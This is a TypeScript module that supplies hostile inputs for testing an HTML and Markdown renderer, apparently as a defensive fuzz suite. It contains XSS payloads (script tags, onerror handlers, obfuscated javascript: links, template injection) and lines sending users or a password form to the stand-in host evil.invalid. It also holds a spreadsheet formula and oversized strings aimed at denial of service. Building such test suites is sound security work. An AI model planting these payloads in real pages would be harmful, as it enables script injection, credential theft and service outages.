// Hostile texts: those from outside, which the project does not carry, found through ASKLET_DATA; without it the few
// that stand here. Owns how a file of theirs becomes one text an item.

import { existsSync, readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'

export interface Item {
  /** Says which one it is: `xss-lists/0484648ef238`. */
  readonly id: string
  readonly text: string
}

interface Row {
  readonly id: string
  readonly text?: string
  readonly base64?: string
  readonly head?: string
  readonly name?: string
  readonly parts?: readonly { readonly s: string; readonly n: number }[]
  readonly js?: string
}

/** Two of each kind: what a page without outside data is still held to. */
const OWN: readonly (readonly [id: string, text: string])[] = [
  ['script', '<script>alert(1)</script>'],
  ['image', 'words <img src=x onerror="alert(1)"> words'],
  ['handler', '<b onclick="alert(1)" style="position:fixed;inset:0" id="forms" name="body">bold</b>'],
  ['frame', '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>'],
  ['vector', '<svg onload=alert(1)><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'],
  [
    'namespaces',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
  ],
  [
    'style',
    '<style>* { display: none !important }</style><link rel="stylesheet" href="https://evil.invalid/a.css">',
  ],
  [
    'form',
    '<form action="https://evil.invalid/"><input name="password" autofocus onfocus="alert(1)"></form>',
  ],
  [
    'refresh',
    '<meta http-equiv="refresh" content="0;url=https://evil.invalid/"><base href="https://evil.invalid/">',
  ],
  ['shadow', '<div><template shadowrootmode="open"><script>alert(1)</script></template></div>'],
  ['link', '[words](javascript:alert(1)) [words](JaVaScRiPt:alert(1)) <javascript:alert(1)>'],
  ['link entities', '[words](java&#115;cript&colon;alert(1)) [words](&#x09;javascript:alert(1))'],
  ['link data', '[words](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [words](vbscript:x)'],
  ['link user', '[https://shop.example](https://shop.example@evil.invalid/) [words](//evil.invalid/)'],
  [
    'picture',
    '![words](https://evil.invalid/track.png) ![words](javascript:alert(1)) ![" onerror="alert(1)](x)',
  ],
  ['reference', '[words][a]\n\n[a]: javascript:alert(1) "title\\" onmouseover=alert(1)"'],
  ['code', '```"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```'],
  ['heading', '# <a id="location" name="cookie">x</a> {#constructor}\n\n## __proto__ {#__proto__}'],
  ['table', '| <script> | a |\n|---|---|\n| `<img src=x onerror=alert(1)>` | <b>x |'],
  ['unclosed', '<a href="https://shop.example/"><b><i><table><tr><td><li>never closed'],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: that is the point
  ['places', '{name} {{constructor.constructor("alert(1)")()}} ${alert(1)} <%= alert(1) %>'],
  ['direction', 'abc \u202e gpj.exe \u2066 \u2067 \u200f \u061c right to left'],
  ['marks', `Z${'\u0300\u0338\u0489'.repeat(60)}algo`],
  ['units', '\ud800 \udfff \0 \ufeff \u2028 \u2029 \u{1f469}\u200d\u{1f469}\u200d\u{1f466}'],
  ['spreadsheet', '=HYPERLINK("https://evil.invalid/","x")'],
  ['stars', `${'*'.repeat(60_000)}a${'*'.repeat(60_000)}`],
  ['quotes', `${'>'.repeat(50_000)}a`],
  ['brackets', `${'['.repeat(50_000)}a${']'.repeat(50_000)}`],
  ['backticks', Array.from({ length: 1_500 }, (_, n) => `e${'`'.repeat(n)}`).join('')],
  ['lists', Array.from({ length: 1_000 }, (_, n) => `${'  '.repeat(n)}* a`).join('\n')],
  ['angles', `${'<'.repeat(100_000)}>`],
  ['tags', '<a"'.repeat(30_000)],
  ['raw elements', `a ${'<script>'.repeat(20_000)}`],
  ['open elements', '<div>'.repeat(20_000)],
  ['one word', 'w'.repeat(200_000)],
]

/** @param folder  of ASKLET_DATA; without it, or without its `hostile/`, the project's own list */
export function readItems(folder: string | undefined): { items: readonly Item[]; isOutside: boolean } {
  const hostile = folder && join(folder, 'hostile')
  const own = OWN.map(([id, text]) => ({ id: `own/${id}`, text }))
  if (!hostile || !existsSync(hostile)) return { items: own, isOutside: false }
  const outside = readdirSync(hostile)
    .filter(name => name.endsWith('.json'))
    .sort()
    .flatMap(name => {
      const set = name.slice(0, -5)
      const rows = JSON.parse(readFileSync(join(hostile, name), 'utf8')) as Row[]
      return rows.flatMap(row =>
        textsOf(set, row).map((text, n) => ({ id: `${set}/${row.id}${n ? `#${n}` : ''}`, text })),
      )
    })
  return { items: [...own, ...outside], isOutside: true }
}

/** A file's name and its first bytes, an address and the ways in which Markdown and HTML write it: an item each. */
function textsOf(set: string, row: Row): readonly string[] {
  if (row.parts) return [row.parts.map(({ s, n }) => s.repeat(n)).join('')]
  // A text told as an expression: data is not run. `own/backticks` is the one that there is.
  if (row.js) return []
  if (row.base64 !== undefined) return [Buffer.from(row.base64, 'base64').toString('utf8')]
  if (row.head !== undefined)
    return [`${row.name ?? ''}\n${Buffer.from(row.head, 'base64').toString('latin1')}`]
  const text = row.text ?? ''
  if (set !== 'urls') return [text]
  const quoted = text.replace(/&/g, '&amp;').replace(/"/g, '&quot;')
  return [
    `${text}\n\n[words](<${text}>) ![words](<${text}>) <${text}>\n\n<a href="${quoted}">words</a> <img src="${quoted}">`,
  ]
}

/** Evenly spread over all; what is long and slow is always among them. */
export function sampleOf(items: readonly Item[], atMost: number): readonly Item[] {
  const step = Math.max(1, Math.ceil(items.length / atMost))
  return items.filter(({ id }, n) => n % step === 0 || /^(?:own|redos)/.test(id))
}
